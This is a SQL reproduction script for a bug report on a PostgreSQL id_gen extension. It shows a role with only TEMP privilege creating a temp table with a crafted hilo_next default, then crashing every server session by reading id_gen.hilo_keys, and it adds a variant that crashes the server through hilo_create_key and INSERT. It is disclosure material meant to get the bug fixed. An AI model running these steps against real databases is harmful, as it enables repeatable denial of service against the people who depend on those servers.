-- 01: any role (TEMP privilege is enough) crashes the whole server through id_gen.hilo_keys
-- Severity: CRITICAL (SIGSEGV in a backend -> postmaster restarts every session; repeatable DoS;
--   also hit by id_gen.headroom / pg_monitor dashboards that read id_gen.headroom_hilo()).
-- Cause: key.cpp hilo_parse_default() strips implicit coercions from the strategy argument and
--   then reads the Const with TextDatumGetCString() whatever its type: a `name` (or "char")
--   constant, implicitly cast to text by the parser, is read as a varlena.
-- Expected: the view lists the row (or skips it); Actual: "server process ... was terminated by
--   signal 11: Segmentation fault", all sessions terminated.
-- Run: psql -X -v ON_ERROR_STOP=0 -f 01_name_const_crash.sql  (as a superuser, in a db with id_gen)
CREATE ROLE mallory LOGIN;
SET ROLE mallory;
CREATE TEMP SEQUENCE s INCREMENT BY 10;     -- no CREATE anywhere needed: TEMP is PUBLIC's
CREATE TEMP TABLE evil (id bigint DEFAULT hilo_next('s'::regclass, 'pooled'::name));
SELECT pg_get_expr(adbin, adrelid) FROM pg_attrdef WHERE adrelid = 'evil'::regclass;
--  hilo_next('s'::regclass, ('pooled'::name)::text)
SELECT * FROM id_gen.hilo_keys;   -- any role: server crashes here
-- same through a role's own schema and a permanent table:
--   CREATE TABLE mal.evil (id bigint DEFAULT hilo_next('mal.s'::regclass, 'pooled'::name));
-- and for a "char" constant:  DEFAULT hilo_next('s'::regclass, 'p'::"char")

-- Variant 2 (the table's own owner, or any role with INSERT on it): a "char" constant crashes
-- hilo_create_key() and every draw of the table, since hilo_key_column() parses all its defaults:
--   CREATE SEQUENCE cs;
--   CREATE TABLE ch2 (id bigint DEFAULT hilo_next('ch2'),
--                     x bigint DEFAULT hilo_next('cs'::regclass, 'p'::"char"));
--   SELECT hilo_create_key('ch2');        -- signal 11, server restarts (reproduced)
--   INSERT INTO ch2 DEFAULT VALUES;       -- same path (hilo_table_key -> hilo_key_column)
